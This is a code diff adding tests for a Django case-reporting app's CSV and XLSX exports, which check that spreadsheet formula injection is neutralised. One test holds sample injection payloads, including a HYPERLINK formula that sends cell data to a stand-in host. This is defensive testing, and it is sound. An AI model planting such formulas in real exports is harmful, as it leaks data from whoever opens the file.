@@ -212,3 +212,66 @@ def test_api_summary_is_scoped_and_validated(
     bad = alice_client.get("/api/v1/dashboards/summary?date_from=2024-10-02&date_to=2024-10-01")
     assert bad.status_code == 400
     assert "date_to" in bad.json()["error"]["message"]
+
+
+# --- exports are formula-safe and typed (issue 14 point 8, issue 18 point 3) ---------------
+
+
+def test_a_formula_in_a_report_title_is_inert_in_csv_and_xlsx(
+    alice_client: Client, world: World
+) -> None:
+    # given a case whose title (typed by a citizen) is a spreadsheet formula
+    from netral.cases.models import Case
+
+    case = Case.objects.filter(incident_region__code__startswith="64.08").order_by("pk").first()
+    assert case is not None
+    payloads = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)", "\tx"]
+    case.title = payloads[0]
+    case.incident_place = "x"
+    case.save(update_fields=["title", "incident_place"])
+    # when exported as CSV
+    body = b"".join(alice_client.get("/dasbor/ekspor/cases.csv").streaming_content)
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    titles = [r[9] for r in rows[1:]]
+    # then the cell starts with an apostrophe, never with the formula sign
+    assert "'" + payloads[0] in titles
+    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)
+    # when exported as XLSX: the same text, as a string cell, never a formula
+    body = b"".join(alice_client.get("/dasbor/ekspor/cases.xlsx").streaming_content)
+    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
+    cells = [row[9] for row in sheet.iter_rows(min_row=2)]
+    target = next(c for c in cells if c.value == payloads[0])
+    assert target.data_type == "s"
+    assert all(c.data_type != "f" for c in cells)
+
+
+def test_the_formula_guard_covers_every_dangerous_start() -> None:
+    from netral.core.spreadsheets import formula_safe
+
+    for text in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
+        assert formula_safe(text) == "'" + text
+    assert formula_safe(-1) == -1  # numbers are numbers
+    assert formula_safe("Budi - Santoso") == "Budi - Santoso"
+
+
+def test_exported_values_match_the_database_column_by_column(
+    alice_client: Client, world: World
+) -> None:
+    """Per-column conversion (no model converters) gives what the ORM gives: local times with
+    their offset, labels for choices, ya/tidak for booleans, dates as ISO."""
+    from django.utils import timezone
+
+    from netral.cases.models import Case, Status
+
+    body = b"".join(alice_client.get("/dasbor/ekspor/cases.csv").streaming_content)
+    rows = {int(r[0]): r for r in list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1:]}
+    assert rows
+    for case in Case.objects.filter(pk__in=rows):
+        row = rows[case.pk]
+        assert row[5] == str(Status(case.status).label)
+        assert row[10] == (case.event_date.isoformat() if case.event_date else "")
+        expected = timezone.localtime(case.received_at).isoformat() if case.received_at else ""
+        assert row[12] == expected
+    officials = b"".join(alice_client.get("/dasbor/ekspor/officials.csv").streaming_content)
+    active = {r[11] for r in list(csv.reader(io.StringIO(officials.decode("utf-8-sig"))))[1:]}
+    assert active == {"ya", "tidak"}
